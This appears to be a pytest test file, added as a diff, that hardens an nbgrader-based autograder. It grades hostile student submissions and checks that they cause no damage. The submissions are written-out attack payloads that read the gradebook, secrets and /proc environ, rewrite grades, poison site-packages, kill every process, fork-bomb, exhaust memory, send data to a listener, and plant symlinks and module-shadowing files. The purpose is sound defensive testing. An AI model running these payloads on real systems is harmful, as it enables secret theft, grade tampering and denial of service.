@@ -1,0 +1,254 @@
+"""Attacks on the grader stay in their box, through real `nbgrader autograde tensor_ops`.
+
+Each attacker hands in a correct 01 plus one code cell (run in the notebook's kernel) or one
+definition default (run in the check child) that attacks the grader: reads the gradebook,
+the source, the secret; writes the gradebook, the course, the environment; kills its
+parent and every process it can see; floods processes; connects to a listener; submits
+symbolic links, floods the output, exhausts memory, submits files that shadow modules
+(numpy.py, sitecustomize.py, conftest.py). Two clean students are graded before and after them. Afterwards: every
+student has the 18 points of a correct 01, nothing outside the attackers' own autograded
+folders changed, the gradebook schema is the same, no process is left, no connection
+arrived, the secret reached no output, and a later run in a fresh process is unaffected.
+"""
+
+import hashlib
+import json
+import os
+import socket
+import sqlite3
+import sys
+from pathlib import Path
+
+import pytest
+
+from tensor_gears.contract import ASSIGNMENT, TASKS
+from tensor_gears.notebooks import read
+from tensor_gears.reference import solution
+from tensor_gears.release import nbgrader
+
+from .conftest import grades, make_course, submit
+from .test_misbehaving_students import attached_to_a_grader, running_harnesses
+
+SECRET = "attack-test-secret-0f3c9a"
+NOTEBOOK = "01_elementwise"
+POINTS = sum(task.points for task in TASKS if task.notebook == NOTEBOOK)
+KERNEL_ATTACKS = {
+    "reads_everything": """
+import glob, os
+for pattern in ["../../../gradebook.db", "../../../source/*/*.ipynb", "/work/*/tensor_gears/checks/*.py",
+                "/proc/1/environ", "/root/*"]:
+    for path in glob.glob(pattern):
+        try:
+            print(path, open(path, "rb").read()[:2000])
+        except OSError as error:
+            print(path, error)
+print(dict(os.environ))
+""",
+    "writes_the_gradebook": """
+import sqlite3
+db = sqlite3.connect("../../../gradebook.db")
+db.execute("UPDATE grade SET manual_score = 0")
+db.execute("CREATE TRIGGER bonus AFTER INSERT ON grade BEGIN UPDATE grade SET extra_credit = 1000; END")
+db.commit()
+""",
+    "poisons_the_environment": """
+import os, site, sys
+for folder in site.getsitepackages() + [sys.prefix]:
+    try:
+        open(os.path.join(folder, "zz_poison.pth"), "w").write("import os; os.environ['POISONED'] = '1'\\n")
+    except OSError as error:
+        print(error)
+for path in ["../../../nbgrader_config.py", "../../../source/tensor_ops/01_elementwise.ipynb"]:
+    try:
+        open(path, "a").write("# poisoned")
+    except OSError as error:
+        print(error)
+""",
+    "kills_everything": """
+import os, signal
+for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+    if pid != os.getpid():
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+""",
+    "floods_processes": """
+import os, time
+children = 0
+for _ in range(5000):
+    try:
+        if os.fork() == 0:
+            time.sleep(600)
+            os._exit(0)
+        children += 1
+    except OSError:
+        break
+print("forked", children)
+""",
+    "floods_output": """
+for _ in range(300):
+    print("x" * 10**6)
+""",
+    "exhausts_memory": """
+hoard = []
+while True:
+    hoard.append(bytearray(1 << 28))
+""",
+    "calls_home": """
+import socket
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
+except OSError as error:
+    print("no network:", error)
+""",
+}
+# Run in the check child when the definitions load (a default value is computed at `def`).
+CHILD_ATTACK = """
+import os
+
+
+def _steal():
+    for path in ["../../../gradebook.db", "/work", "/root", "/proc/1/environ"]:
+        try:
+            os.listdir(path) if os.path.isdir(path) else open(path, "a").write("poisoned")
+        except OSError:
+            pass
+    for pid in [os.getppid(), 1]:
+        try:
+            os.kill(pid, 9)
+        except OSError:
+            pass
+
+
+def _payload(loot=_steal()):
+    return loot
+"""
+
+
+def fingerprint(*folders: Path) -> dict[str, str]:
+    """A hash of every file under `folders` (the course files, the environment)."""
+    found = {}
+    for folder in folders:
+        for path in folder.rglob("*"):
+            if path.is_file() and not path.is_symlink() and "__pycache__" not in path.parts:
+                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return found
+
+
+def schema(course: Path) -> list:
+    with sqlite3.connect(course / "gradebook.db") as db:
+        return sorted(db.execute("SELECT type, name, sql FROM sqlite_master").fetchall())
+
+
+def add_cell(folder: Path, code: str):
+    path = folder / f"{NOTEBOOK}.ipynb"
+    nb = read(path)
+    nb.cells.append({"cell_type": "code", "id": "attack", "metadata": {}, "source": code,
+                     "outputs": [], "execution_count": None})
+    path.write_text(json.dumps(nb))
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory):
+    course = make_course(tmp_path_factory.mktemp("attacks"))
+    nbgrader(course, "generate_assignment", ASSIGNMENT)
+    nbgrader(course, "db", "assignment", "add", ASSIGNMENT)
+    correct = {task.name: "reference" for task in TASKS if task.notebook == NOTEBOOK}
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    listener.settimeout(0.2)
+    submit(course, "a_clean", correct, (NOTEBOOK,))
+    for name, code in KERNEL_ATTACKS.items():
+        add_cell(submit(course, f"k_{name}", correct, (NOTEBOOK,)), code.replace("{port}", str(listener.getsockname()[1])))
+    submit(course, "k_child_attack", {**correct, "naive_add": solution("naive_add") + CHILD_ATTACK}, (NOTEBOOK,))
+    links = submit(course, "k_symlinks", correct, (NOTEBOOK,))
+    (links / "notes.txt").symlink_to(course / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
+    (links / "checks.txt").symlink_to("/proc/self/environ")
+    shadows = submit(course, "k_shadow_files", correct, (NOTEBOOK,))
+    for module in ("numpy.py", "sitecustomize.py", "conftest.py", "usercustomize.py"):
+        (shadows / module).write_text("import os\nos._exit(9)\n")
+    submit(course, "z_clean", correct, (NOTEBOOK,))
+    before = fingerprint(course / "source", course / "release", Path(sys.prefix) / "lib")
+    before.update(fingerprint(*[p for p in course.iterdir() if p.is_file() and p.name != "gradebook.db"]))
+    tables = schema(course)
+    environment = {**os.environ, "TENSOR_GEARS_SECRET": SECRET}
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(os, "environ", environment)
+        run = nbgrader(course, "autograde", ASSIGNMENT, "--Execute.timeout=20", check=False)
+    try:
+        arrived = listener.accept()[0].recv(100)
+    except TimeoutError:
+        arrived = b""
+    listener.close()
+    return course, run, before, tables, arrived
+
+
+def test_the_batch_completes(attacked):
+    course, run, *_ = attacked
+    assert run.returncode == 0, run.stderr[-3000:]
+    graded = sorted(p.name for p in (course / "autograded").iterdir())
+    assert graded == sorted(["a_clean", "z_clean", "k_child_attack", "k_symlinks", "k_shadow_files"]
+                            + [f"k_{n}" for n in KERNEL_ATTACKS])
+
+
+def test_every_student_earns_exactly_what_a_correct_notebook_earns(attacked):
+    course, *_ = attacked
+    for student in [p.name for p in (course / "autograded").iterdir()]:
+        scores = grades(course, student)
+        assert sum(scores.values()) == POINTS, (student, scores)
+
+
+def test_nothing_outside_the_attackers_folders_changed(attacked):
+    course, _, before, tables, _ = attacked
+    after = fingerprint(course / "source", course / "release", Path(sys.prefix) / "lib")
+    after.update(fingerprint(*[p for p in course.iterdir() if p.is_file() and p.name != "gradebook.db"]))
+    assert after == before
+    assert schema(course) == tables
+    assert not list(Path(sys.prefix).glob("lib/python*/site-packages/zz_poison.pth"))
+
+
+def test_no_secret_no_solution_and_no_link_reached_any_output(attacked):
+    course, *_ = attacked
+    solution_marker = "### BEGIN SOLUTION"
+    for path in (course / "autograded").rglob("*"):
+        if path.is_file():
+            text = path.read_text(errors="replace")
+            assert SECRET not in text, path
+            assert solution_marker not in text, path
+    assert not (course / "autograded" / "k_symlinks" / ASSIGNMENT / "notes.txt").exists()
+    assert not (course / "autograded" / "k_symlinks" / ASSIGNMENT / "checks.txt").exists()
+
+
+def test_no_connection_arrived_and_no_process_is_left(attacked):
+    _, _, _, _, arrived = attacked
+    assert arrived == b""
+    assert [pid for pid in running_harnesses() if not attached_to_a_grader(pid)] == []
+    flood = [p for p in Path("/proc").glob("[0-9]*/cmdline") if b"ipykernel" in _read(p) and not attached(p)]
+    assert flood == []
+
+
+def test_a_flood_of_output_is_cut_before_it_reaches_the_notebook(attacked):
+    course, *_ = attacked
+    notebook = course / "autograded" / "k_floods_output" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
+    assert notebook.stat().st_size < 4 << 20
+    assert "[output truncated" in notebook.read_text()
+
+
+def test_a_later_run_in_a_fresh_process_is_unaffected(attacked):
+    course, *_ = attacked
+    nbgrader(course, "autograde", ASSIGNMENT, "--student", "z_clean", "--force")
+    scores = grades(course, "z_clean")
+    assert sum(scores.values()) == POINTS
+
+
+def attached(cmdline: Path) -> bool:
+    return attached_to_a_grader(int(cmdline.parent.name))
+
+
+def _read(path: Path) -> bytes:
+    try:
+        return path.read_bytes()
+    except OSError:
+        return b""
